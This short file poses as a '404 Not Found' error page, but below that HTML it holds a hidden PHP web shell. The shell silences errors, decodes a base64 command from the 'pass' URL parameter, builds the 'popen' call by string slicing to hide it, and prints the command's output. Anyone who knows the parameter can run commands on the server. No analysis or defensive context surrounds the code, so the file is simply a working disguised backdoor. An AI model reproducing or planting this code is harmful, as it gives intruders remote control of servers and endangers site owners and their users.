<html><body><h1>404 Not Found</h1></body></html>
<?php
error_reporting(0);
set_time_limit(0);
$req = base64_decode($_GET['pass']);
$o0 = substr('xxpopenyy', 2, 5);
$h = $o0($req, 'r');
while (!feof($h)) echo fread($h, 4096);
?>
